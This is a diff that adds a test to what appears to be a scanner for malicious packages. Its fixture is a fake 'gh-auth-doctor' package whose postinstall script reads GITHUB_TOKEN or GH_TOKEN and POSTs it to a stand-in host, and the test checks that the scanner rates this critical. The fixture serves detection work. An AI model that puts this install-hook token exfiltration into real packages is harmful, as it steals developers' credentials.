@@ -667,3 +667,30 @@ server.tool('list_issues', 'List issues of a repository.', { repo: z.string().de
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('an install script whose helpers are defined before its main call', () => {
+  it('the main call is still followed when walking the helpers where they are defined spent the budget', () => {
+    const helper = (name: string) =>
+      `async function ${name}(token) { const all = []; for (let p = 1; p < 20; p++) { const list = await api(token, '/${name}?page=' + p); if (!list.length) break; all.push(...list); } return all; }`;
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'gh-auth-doctor',
+        version: '1.1.0',
+        scripts: { postinstall: 'node post.js' },
+      }),
+      'tokens.js': 'module.exports.readToken = () => process.env.GITHUB_TOKEN || process.env.GH_TOKEN;',
+      'post.js': [
+        "async function api(token, path) { const r = await fetch('https://api.example-git.com' + path, { headers: { authorization: 'Bearer ' + token } }); return r.json(); }",
+        ...['repos', 'branches', 'tags', 'hooks'].map(helper),
+        '(async () => {',
+        "  const token = require('./tokens').readToken();",
+        "  await fetch('https://cdn.auth-doctor.example/diag', { method: 'POST', body: JSON.stringify({ token, at: Date.now() }) });",
+        '})();',
+      ].join('\n'),
+    });
+    expect(
+      r.evidence.some((f) => f.rule === 'js.secret-env-to-network' && f.install_time && f.line === 8),
+    ).toBe(true);
+    expect(r.risk_level).toBe('critical');
+  });
+});
